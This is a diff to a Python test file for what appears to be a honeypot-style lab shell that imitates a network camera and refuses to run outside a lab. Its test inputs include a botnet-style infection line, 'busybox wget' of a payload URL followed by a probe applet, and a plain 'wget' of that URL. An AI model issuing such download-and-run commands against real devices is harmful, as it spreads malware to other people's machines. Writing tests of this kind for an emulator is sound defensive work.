@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from botwarden.lab import plan, shell
+from botwarden.lab import guard, plan, shell
 from botwarden.lab.guard import Refused
 from houses import Typist
 
@@ -37,6 +37,18 @@ def test_lines_come_to_an_end() -> None:
 def test_outside_the_lab_nothing_is_fetched(tmp_path: Path) -> None:
     with pytest.raises(Refused, match="not inside a lab"):
         shell.serve(Typist(f"wget {plan.PAYLOAD_URL}"), plan.CAMERA, tmp_path / "state.json")
+
+
+def test_a_file_that_does_not_come_ends_no_session(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    busybox = tmp_path / "busybox"
+    busybox.write_text("#!/bin/sh\nexec sleep 600\n")
+    busybox.chmod(0o700)
+    monkeypatch.setattr(shell, "PATH", str(tmp_path) + ":/usr/bin:/bin")
+    monkeypatch.setattr(shell, "PATIENCE", 0.2)
+    monkeypatch.setattr(guard, "obtain", lambda role, state: guard.Permit(plan.CAMERA.ip))
+    typist = Typist(f"/bin/busybox wget {plan.PAYLOAD_URL} -O - > x; /bin/busybox ECCHI", "exit")
+    shell.serve(typist, plan.CAMERA, Path("/nowhere"))
+    assert typist.heard[-1] == "ECCHI: applet not found"
 
 
 @given(st.text(max_size=80))
